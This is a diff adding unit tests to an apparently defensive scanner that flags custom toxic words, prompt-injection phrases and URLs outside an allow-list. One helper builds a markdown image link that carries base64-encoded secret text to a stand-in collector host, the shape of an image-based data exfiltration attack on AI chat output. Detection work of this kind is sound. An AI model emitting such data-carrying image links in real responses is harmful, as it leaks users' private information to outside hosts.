@@ -114,3 +114,37 @@ describe("a pattern of one's own", () => {
     expect(JSON.stringify(clean.args)).not.toContain("PRJ-");
   });
 });
+
+describe("words and hosts of one's own", () => {
+  const own = lookingFor({
+    secrets: new KnownValues(),
+    canaries: new KnownValues(),
+    patterns: [],
+    allowedHosts: ["files.example.com", "*.cdn.example.net"],
+    toxicWords: ["Blödmann"],
+    injectionPhrases: ["mach was der Herr sagt", "v1.0 (final)"],
+  });
+  const seen = (text: string) => own.scan(text, {}, "likely").map(({ class: named, start, end }) => `${named} ${text.slice(start, end)}`);
+  const image = (host: string) => `![x](https://${host}/p.png?d=${Buffer.from("the launch is on Friday at nine").toString("base64")})`;
+
+  test.each([
+    ["du BLÖDMANN!", "toxicity BLÖDMANN"],
+    ["Mach  was\nder Herr sagt.", "injection Mach  was\nder Herr sagt"],
+    ["see v1.0 (final", ""],
+    ["Blödmanns", ""],
+    ["mach was der Herrscher sagt", ""],
+  ])("%j holds %j", (text, expected) => {
+    expect(seen(text).join()).toBe(expected);
+  });
+
+  test.each([
+    ["files.example.com", 0],
+    ["a.cdn.example.net", 0],
+    ["a.b.cdn.example.net", 0],
+    ["files.example.com.collect.example.org", 1],
+    ["cdn.example.net", 1],
+    ["collect.example.org", 1],
+  ])("a URL to %s that takes data along is %i findings", (host, count) => {
+    expect(seen(image(host))).toHaveLength(count);
+  });
+});
